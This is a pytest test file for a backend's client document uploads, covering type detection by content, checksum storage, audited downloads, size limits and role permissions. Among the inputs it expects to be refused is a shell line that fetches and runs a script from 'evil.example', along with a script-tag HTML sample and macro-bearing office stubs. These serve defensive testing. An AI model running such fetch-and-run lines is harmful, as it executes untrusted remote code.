"""Documents in a client's file, through HTTP on both databases: type checked by content, stored once by
checksum, previewed and downloaded (audited), size-limited, removed with their last filing."""
from __future__ import annotations

import asyncio
import datetime as dt
import hashlib
import io
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from aiohttp import FormData, web
from fpdf import FPDF
from PIL import Image
from sqlalchemy import select

from backend.app import ENDPOINTS, create_app
from backend.appkeys import DATABASE, SETTINGS
from backend.audit.models import AuditEvent
from backend.clients.document_routes import routes as document_routes
from backend.clients.privacy import retention_context
from backend.clients.privacy_routes import routes as privacy_routes
from backend.documents.kinds import detect
from backend.web import with_auth
from tests.backend.conftest import Backend, FakeClock, build_world


@dataclass
class Office(Backend):
    """The backend with the documents and privacy endpoints, a clock the test moves, and the documents folder."""

    app: web.Application | None = None
    clock: FakeClock | None = None

    @property
    def folder(self) -> Path:
        return self.app[SETTINGS].data_dir / "documents"

    def stored(self) -> dict[str, bytes]:
        """Every file kept, by name (its SHA-256), outside the temporary folder."""
        return {p.name: p.read_bytes() for p in self.folder.glob("??/??/*") if p.is_file()}


@pytest.fixture
async def office(settings, aiohttp_client) -> Office:
    clock = FakeClock()
    app = create_app(settings, clock=clock)
    # Until backend/app.py lists these endpoints and the retention task, the tests add them themselves.
    for endpoint in [*document_routes.items, *privacy_routes.items]:
        if endpoint not in ENDPOINTS:
            app.router.add_route(endpoint.method, endpoint.path, with_auth(endpoint))
    if retention_context not in app.cleanup_ctx:
        app.cleanup_ctx.append(retention_context)
    client = await aiohttp_client(app)
    return Office(client=client, database=app[DATABASE], world=await build_world(app[DATABASE]), app=app,
                  clock=clock)


def pdf_bytes(text: str = "Attestation d'assurance") -> bytes:
    pdf = FPDF()
    pdf.set_creation_date(dt.datetime(2026, 1, 2, tzinfo=dt.UTC))  # the same text makes the same bytes
    pdf.add_page()
    pdf.set_font("helvetica", size=14)
    pdf.cell(text=text)
    return bytes(pdf.output())


def image_bytes(kind: str = "PNG", colour: str = "red") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 12), colour).save(out, kind)
    return out.getvalue()


def docx_bytes(main: str = "wordprocessingml.document.main+xml", extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            f'officedocument.{main}"/></Types>'))
        package.writestr("word/document.xml", "<w:document/>")
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return out.getvalue()


def ole2_bytes(*streams: str) -> bytes:
    """A compound file's header and one directory sector naming these streams (enough for the detection)."""
    def entry(name: str, kind: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return raw.ljust(64, b"\x00") + len(raw).to_bytes(2, "little") + bytes([kind]) + b"\x00" * 61
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\x00")
    return header + entry("Root Entry", 5) + b"".join(entry(s, 2) for s in streams) + b"\x00" * 512


async def create_client(backend: Backend, **fields) -> dict:
    fields = fields or {"given_name": "Hélène", "family_name": "Côté"}
    response = await backend.client.post("/api/clients", json=fields, headers=backend.auth("clerk"))
    assert response.status == 201, await response.text()
    return await response.json()


async def upload(backend: Backend, client_id: int, data: bytes | None, filename: str = "scan.pdf",
                 who: str | None = "clerk", **fields: str):
    # As browsers send it: multipart even without a file, the file's name in UTF-8 (not percent-encoded).
    form = FormData(quote_fields=False, default_to_multipart=True)
    for name, value in {"category": "report", **fields}.items():
        form.add_field(name, value)
    if data is not None:
        form.add_field("file", data, filename=filename, content_type="application/octet-stream")
    return await backend.client.post(f"/api/clients/{client_id}/documents", data=form,
                                     headers=backend.auth(who) if who else {})


async def uploaded(backend: Backend, client_id: int, data: bytes, filename: str = "scan.pdf", **fields) -> dict:
    response = await upload(backend, client_id, data, filename, **fields)
    assert response.status == 201, await response.text()
    return await response.json()


async def test_pdf_and_images_upload_preview_and_download_whole(office: Office) -> None:
    client = await create_client(office)
    pdf, png, jpeg = pdf_bytes(), image_bytes("PNG"), image_bytes("JPEG")
    doc = await uploaded(office, client["id"], pdf, "Attestation Côté.pdf", category="insurance",
                         title="Attestation 2026", document_date="2026-03-01", retain_until="2036-03-01")
    assert doc["media_type"] == "application/pdf" and doc["size"] == len(pdf)
    assert doc["sha256"] == hashlib.sha256(pdf).hexdigest()
    assert (doc["filename"], doc["title"], doc["category"]) == ("Attestation Côté.pdf", "Attestation 2026",
                                                                "insurance")
    assert (doc["document_date"], doc["retain_until"], doc["previewable"]) == ("2026-03-01", "2036-03-01", True)
    assert doc["uploaded_by_id"] == office.world.staff_ids["clerk"]
    image = await uploaded(office, client["id"], png, "C:\\Users\\clerk\\Scans\\carte.PNG", category="identity")
    assert (image["filename"], image["media_type"], image["title"]) == ("carte.png", "image/png", "carte")
    # No extension: it gets the one its content calls for.
    photo = await uploaded(office, client["id"], jpeg, "photo", category="identity")
    assert (photo["filename"], photo["media_type"]) == ("photo.jpg", "image/jpeg")

    listed = await office.client.get(f"/api/clients/{client['id']}/documents", headers=office.auth("paeds"))
    assert listed.status == 200
    assert [d["id"] for d in (await listed.json())["items"]] == [doc["id"], photo["id"], image["id"]]

    # Stored by content: documents/ab/cd/abcd…, exactly the bytes sent.
    sha = doc["sha256"]
    assert (office.folder / sha[:2] / sha[2:4] / sha).read_bytes() == pdf
    download = await office.client.get(doc["content_url"], headers=office.auth("reception"))
    assert download.status == 200
    assert await download.read() == pdf
    assert download.headers["Content-Type"] == "application/pdf"
    assert download.headers["Content-Disposition"] == (
        "attachment; filename=\"Attestation C_t_.pdf\"; filename*=UTF-8''Attestation%20C%C3%B4t%C3%A9.pdf")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Cache-Control"] == "private, no-store"
    assert "frame-ancestors 'none'" in download.headers["Content-Security-Policy"]
    preview = await office.client.get(f"{doc['content_url']}?preview=1", headers=office.auth("billing"))
    assert preview.status == 200 and await preview.read() == pdf
    assert preview.headers["Content-Disposition"].startswith("inline; ")
    assert "frame-ancestors 'self'" in preview.headers["Content-Security-Policy"]
    assert preview.headers["X-Content-Type-Options"] == "nosniff"
    shown = await office.client.get(f"{image['content_url']}?preview=1", headers=office.auth("clerk"))
    assert shown.headers["Content-Disposition"].startswith("inline; ") and await shown.read() == png
    assert shown.headers["Content-Type"] == "image/png"


async def test_only_pdf_and_images_are_previewed(office: Office) -> None:
    client = await create_client(office)
    note = await uploaded(office, client["id"], "Rappel : rendez-vous à 9 h.\n".encode("cp1252"), "note.txt")
    assert (note["media_type"], note["previewable"]) == ("text/plain; charset=windows-1252", False)
    response = await office.client.get(f"{note['content_url']}?preview=1", headers=office.auth("clerk"))
    assert response.headers["Content-Disposition"].startswith("attachment; ")
    assert response.headers["Content-Type"] == "text/plain; charset=windows-1252"


async def test_the_same_file_twice_is_stored_once_and_removed_with_its_last_filing(office: Office) -> None:
    helene, marc = await create_client(office), await create_client(office, given_name="Marc", family_name="Roy")
    pdf = pdf_bytes()
    first = await uploaded(office, helene["id"], pdf, "a.pdf")
    again = await uploaded(office, helene["id"], pdf, "b.pdf", category="correspondence")
    other = await uploaded(office, marc["id"], pdf, "c.pdf")
    assert first["sha256"] == again["sha256"] == other["sha256"]
    assert list(office.stored()) == [first["sha256"]]
    for document, left in ((first, 1), (other, 1), (again, 0)):
        response = await office.client.delete(f"/api/documents/{document['id']}", headers=office.auth("reception"))
        assert response.status == 204
        assert len(office.stored()) == left
    assert (await office.client.get(first["content_url"], headers=office.auth("clerk"))).status == 404
    assert (await office.client.delete(f"/api/documents/{first['id']}", headers=office.auth("clerk"))).status == 404
    async with office.database.read() as session:
        deleted = list(await session.scalars(select(AuditEvent).where(AuditEvent.action == "document.deleted")))
    assert sorted(e.details["document_id"] for e in deleted) == sorted([first["id"], again["id"], other["id"]])


async def test_removing_the_last_filing_while_the_same_content_is_filed_again_keeps_the_file(office: Office) -> None:
    client = await create_client(office)
    pdf = pdf_bytes()
    document = await uploaded(office, client["id"], pdf)
    for _ in range(4):
        removed, again = await asyncio.gather(
            office.client.delete(f"/api/documents/{document['id']}", headers=office.auth("clerk")),
            upload(office, client["id"], pdf))
        assert (removed.status, again.status) == (204, 201)
        document = await again.json()
        download = await office.client.get(document["content_url"], headers=office.auth("clerk"))
        assert download.status == 200 and await download.read() == pdf


async def test_a_damaged_or_missing_file_is_never_served(office: Office) -> None:
    client = await create_client(office)
    pdf = pdf_bytes()
    doc = await uploaded(office, client["id"], pdf)
    path = office.folder / doc["sha256"][:2] / doc["sha256"][2:4] / doc["sha256"]
    path.write_bytes(pdf[:-1] + bytes([pdf[-1] ^ 1]))
    response = await office.client.get(doc["content_url"], headers=office.auth("clerk"))
    assert response.status == 500
    assert "checksum" in (await response.json())["detail"]
    # Filing the same content again repairs it.
    await uploaded(office, client["id"], pdf)
    assert path.read_bytes() == pdf
    path.unlink()
    response = await office.client.get(doc["content_url"], headers=office.auth("clerk"))
    assert response.status == 500 and "missing" in (await response.json())["detail"]


def executables() -> list[tuple[str, bytes]]:
    real = Path(shutil.which("true") or "/bin/true").read_bytes()
    return [
        ("elf", real),
        ("windows", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00" * 8),
        ("macho", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64),
        ("script", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
        ("script_bom", b"\xef\xbb\xbf#!/usr/bin/env python3\nimport os\n"),
    ]


@pytest.mark.parametrize("name", ["elf", "windows", "macho", "script", "script_bom"])
async def test_an_executable_renamed_pdf_is_refused_and_nothing_is_stored(office: Office, name: str) -> None:
    client = await create_client(office)
    data = dict(executables())[name]
    before = await office.row_counts()
    response = await upload(office, client["id"], data, "facture.pdf")
    assert response.status == 422
    problem = await response.json()
    assert [(e["field"], e["code"]) for e in problem["errors"]] == [("file", "file_type_refused")]
    assert "not a document" in problem["errors"][0]["detail"]
    assert await office.row_counts() == before
    assert office.stored() == {}
    assert not any((office.folder / "tmp").glob("*"))


@pytest.mark.parametrize(("data", "filename", "code"), [
    (pdf_bytes(), "photo.jpg", "file_name_mismatch"),  # refused rather than renamed: see backend.documents.kinds
    (image_bytes("PNG"), "scan.pdf", "file_name_mismatch"),
    (b"<html><script>alert(1)</script></html>", "page.html", "file_name_mismatch"),
    (docx_bytes("wordprocessingml.document.main+xml", {"word/vbaProject.bin": b"\x00"}), "lettre.docx",
     "file_has_macros"),
    (docx_bytes("x"), "archive.docx", "file_type_refused"),  # a ZIP that is no office document
    (b"PK\x03\x04 not really a zip", "lettre.docx", "file_damaged"),
    (ole2_bytes("Workbook", "_VBA_PROJECT_CUR"), "budget.xls", "file_has_macros"),
    (ole2_bytes("SummaryInformation"), "setup.doc", "file_type_refused"),  # an installer is OLE2 too
    (bytes(range(256)) * 4, "data.txt", "file_type_refused"),
    (b"", "empty.pdf", "file_empty"),
])
async def test_content_decides_what_is_accepted(office: Office, data: bytes, filename: str, code: str) -> None:
    client = await create_client(office)
    response = await upload(office, client["id"], data, filename)
    assert response.status == 422, await response.text()
    assert [(e["field"], e["code"]) for e in (await response.json())["errors"]] == [("file", code)]
    assert office.stored() == {}


def test_office_files_and_text_are_recognised() -> None:
    from openpyxl import Workbook
    workbook, out = Workbook(), io.BytesIO()
    workbook.save(out)
    odt = io.BytesIO()
    with zipfile.ZipFile(odt, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", "<office:document-content/>")
    cases = {
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document": docx_bytes(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": out.getvalue(),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation":
            docx_bytes("presentationml.presentation.main+xml"),
        "application/vnd.oasis.opendocument.text": odt.getvalue(),
        "application/msword": ole2_bytes("WordDocument", "1Table"),
        "application/vnd.ms-excel": ole2_bytes("Workbook"),
        "image/webp": image_bytes("WEBP"), "image/gif": image_bytes("GIF"), "image/tiff": image_bytes("TIFF"),
        "text/plain; charset=utf-8": "Hélène, 514 555 0123\n".encode(),
        "text/plain; charset=utf-16": "Notes\r\n".encode("utf-16"),
    }
    assert {media: detect(data).media_type for media, data in cases.items()} == {m: m for m in cases}
    # Text that merely starts with the letters MZ is text, not a Windows program.
    assert detect(b"MZURI Safari: facture").media_type == "text/plain; charset=utf-8"


async def test_the_form_is_checked_field_by_field(office: Office) -> None:
    client = await create_client(office)
    before = await office.row_counts()
    response = await upload(office, client["id"], pdf_bytes(), category="receipt", document_date="31/02/2026",
                            retain_until="soon", title="x" * 201)
    assert response.status == 422
    assert sorted(e["field"] for e in (await response.json())["errors"]) == [
        "category", "document_date", "retain_until", "title"]
    response = await upload(office, client["id"], None)
    assert [e["code"] for e in (await response.json())["errors"]] == ["required"]
    response = await upload(office, client["id"], pdf_bytes(), colour="blue")
    assert response.status == 422 and (await response.json())["errors"][0]["code"] == "field_unknown"
    response = await office.client.post(f"/api/clients/{client['id']}/documents", data=pdf_bytes(),
                                        headers={**office.auth("clerk"), "Content-Type": "application/pdf"})
    assert response.status == 400
    assert (await upload(office, 999999, pdf_bytes())).status == 404
    assert await office.row_counts() == before and office.stored() == {}


async def test_size_limit(office: Office) -> None:
    office.app[SETTINGS].document_max_bytes = 4096
    client = await create_client(office)
    text = b"a line of text\n" * 300
    assert (await upload(office, client["id"], text[:4096], "notes.txt")).status == 201
    response = await upload(office, client["id"], text[:4097], "notes.txt")
    assert response.status == 413
    assert (await response.json())["detail"] == "A document may be at most 4096 bytes."
    # Declared too large: refused before it is read.
    big = await upload(office, client["id"], b"x" * 200_000, "big.txt")
    assert big.status == 413
    assert len(office.stored()) == 1


async def test_every_download_is_audited_on_the_client(office: Office) -> None:
    client = await create_client(office)
    doc = await uploaded(office, client["id"], pdf_bytes())
    await office.client.get(doc["content_url"], headers=office.auth("paeds"))
    await office.client.get(f"{doc['content_url']}?preview=1", headers=office.auth("reception"))
    trail = await office.client.get(f"/api/clients/{client['id']}/access", headers=office.auth("clerk"))
    items = (await trail.json())["items"]
    assert [(i["action"], i["staff_name"]) for i in items if i["action"] == "document.downloaded"] == [
        ("document.downloaded", "Reception"), ("document.downloaded", "Paeds")]
    async with office.database.read() as session:
        events = list(await session.scalars(select(AuditEvent).where(AuditEvent.action == "document.downloaded")
                                            .order_by(AuditEvent.id)))
    assert [e.details for e in events] == [{"document_id": doc["id"], "preview": False},
                                           {"document_id": doc["id"], "preview": True}]
    assert all((e.object_type, e.object_id) == ("client", str(client["id"])) for e in events)
    # A refused download is not one.
    await office.client.get(doc["content_url"], headers=office.auth("kiosk_a"))
    async with office.database.read() as session:
        assert len(list(await session.scalars(select(AuditEvent.id).where(
            AuditEvent.action == "document.downloaded")))) == 2


async def test_who_may_do_what(office: Office) -> None:
    client = await create_client(office)
    kept = await uploaded(office, client["id"], pdf_bytes("kept"))
    expected = {None: 401, "kiosk_a": 403, "admin": 201, "reception": 201, "clerk": 201, "billing": 403,
                "paeds": 403}
    for who, status in expected.items():
        response = await upload(office, client["id"], pdf_bytes(f"by {who}"), who=who)
        assert response.status == status, who
        headers = office.auth(who) if who else {}
        reading = 401 if who is None else 403 if who == "kiosk_a" else 200
        listed = await office.client.get(f"/api/clients/{client['id']}/documents", headers=headers)
        assert listed.status == reading, who
        download = await office.client.get(kept["content_url"], headers=headers)
        assert download.status == reading, who
        if status == 201:
            removed = await office.client.delete(f"/api/documents/{(await response.json())['id']}",
                                                 headers=headers)
            assert removed.status == 204, who
        else:
            assert (await office.client.delete(f"/api/documents/{kept['id']}", headers=headers)).status == status
    assert (await office.client.get(kept["content_url"], headers=office.auth("clerk"))).status == 200
